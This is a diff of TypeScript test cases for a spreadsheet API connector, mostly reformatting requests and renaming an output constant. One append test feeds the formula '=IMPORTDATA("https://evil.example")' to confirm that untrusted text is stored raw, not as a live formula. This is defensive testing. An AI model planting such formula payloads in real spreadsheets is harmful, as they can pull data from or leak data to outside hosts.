@@ -5,11 +5,7 @@ const { gives, fails } = casesOf({ access_token: 'ya29.0123456789' }, { authoriz
 const SHEET = { spreadsheet_id: '1BxiMVs0' };
 const VALUES = '/v4/spreadsheets/1BxiMVs0/values';
 const READ = {
-  query: {
-    majorDimension: 'ROWS',
-    valueRenderOption: 'UNFORMATTED_VALUE',
-    dateTimeRenderOption: 'FORMATTED_STRING',
-  },
+  query: { majorDimension: 'ROWS', valueRenderOption: 'UNFORMATTED_VALUE', dateTimeRenderOption: 'FORMATTED_STRING' },
 };
 const TABLE = {
   range: "'Orders 2026'!A3:C6",
@@ -30,7 +26,12 @@ const DOCUMENT = {
   ],
 };
 const SHOWN = { sheet_id: 0, title: 'Orders', index: 0, rows: 1000, columns: 26 };
-const TOLD = { spreadsheet_id: '1BxiMVs0', url: 'https://docs.example/1BxiMVs0', title: 'Orders', sheets: [SHOWN] };
+const SHEET_OUTPUT = {
+  spreadsheet_id: '1BxiMVs0',
+  url: 'https://docs.example/1BxiMVs0',
+  title: 'Orders',
+  sheets: [SHOWN],
+};
 
 const lookup = (title: string, column: string, value: string | number, output: Parameters<typeof gives>[4]) =>
   gives(
@@ -78,10 +79,7 @@ export const cases = [
     ['read_range', 'too many reads may be tried again'],
     { ...SHEET, range: 'Orders' },
     [`GET ${VALUES}/Orders`, READ],
-    {
-      status: 429,
-      json: { error: { code: 429, message: 'Quota exceeded', status: 'RESOURCE_EXHAUSTED' } },
-    },
+    { status: 429, json: { error: { code: 429, message: 'Quota exceeded', status: 'RESOURCE_EXHAUSTED' } } },
     { code: 'RESOURCE_EXHAUSTED', message: 'Quota exceeded', retryable: true },
   ),
   lookup('a row is found, with its number in the sheet', 'email', 'grace@example.com', {
@@ -97,14 +95,11 @@ export const cases = [
   lookup('there may be no such row', 'email', 'eve@example.com', { found: false }),
   lookup('there may be no such column', 'colour', 'red', { found: false }),
   gives(
-    ['append_rows', 'rows are appended as they are: a text of a stranger is no formula'],
+    ['append_rows', 'rows are appended as they are: untrusted text does not become a formula'],
     { ...SHEET, range: 'Orders', rows: [['=IMPORTDATA("https://evil.example")', 2]] },
     [
-      `POST ${VALUES}/Orders:append`,
-      {
-        query: { valueInputOption: 'RAW', insertDataOption: 'INSERT_ROWS' },
-        body: { majorDimension: 'ROWS', values: [['=IMPORTDATA("https://evil.example")', 2]] },
-      },
+      `POST ${VALUES}/Orders:append?valueInputOption=RAW&insertDataOption=INSERT_ROWS`,
+      { body: { majorDimension: 'ROWS', values: [['=IMPORTDATA("https://evil.example")', 2]] } },
     ],
     { spreadsheetId: '1BxiMVs0', tableRange: 'Orders!A1:B9', updates: CHANGED },
     CHANGED,
@@ -113,11 +108,8 @@ export const cases = [
     ['update_range', 'cells are written as if typed, where the author says so'],
     { ...SHEET, range: 'Orders!A1:B1', rows: [['=A', null]], as: 'USER_ENTERED' },
     [
-      `PUT ${VALUES}/Orders!A1%3AB1`,
-      {
-        query: { valueInputOption: 'USER_ENTERED' },
-        body: { range: 'Orders!A1:B1', majorDimension: 'ROWS', values: [['=A', null]] },
-      },
+      `PUT ${VALUES}/Orders!A1%3AB1?valueInputOption=USER_ENTERED`,
+      { body: { range: 'Orders!A1:B1', majorDimension: 'ROWS', values: [['=A', null]] } },
     ],
     CHANGED,
   ),
@@ -125,11 +117,8 @@ export const cases = [
     ['replace_row', 'a row is written by its number; the name of its sheet cannot lead elsewhere'],
     { ...SHEET, sheet: "Ada's", row_number: 12, cells: ['pen', 2] },
     [
-      `PUT ${VALUES}/'Ada''s'!A12`,
-      {
-        query: { valueInputOption: 'RAW' },
-        body: { range: "'Ada''s'!A12", majorDimension: 'ROWS', values: [['pen', 2]] },
-      },
+      `PUT ${VALUES}/'Ada''s'!A12?valueInputOption=RAW`,
+      { body: { range: "'Ada''s'!A12", majorDimension: 'ROWS', values: [['pen', 2]] } },
     ],
     CHANGED,
   ),
@@ -147,17 +136,14 @@ export const cases = [
       { body: { properties: { title: 'Orders' }, sheets: [{ properties: { title: 'Orders' } }] } },
     ],
     DOCUMENT,
-    TOLD,
+    SHEET_OUTPUT,
   ),
   gives(
     ['list_sheets', 'sheets are listed'],
     SHEET,
-    [
-      'GET /v4/spreadsheets/1BxiMVs0',
-      { query: { fields: 'spreadsheetId,spreadsheetUrl,properties.title,sheets.properties' } },
-    ],
+    'GET /v4/spreadsheets/1BxiMVs0?fields=spreadsheetId,spreadsheetUrl,properties.title,sheets.properties',
     DOCUMENT,
-    TOLD,
+    SHEET_OUTPUT,
   ),
   gives(
     ['add_sheet', 'a sheet is added'],
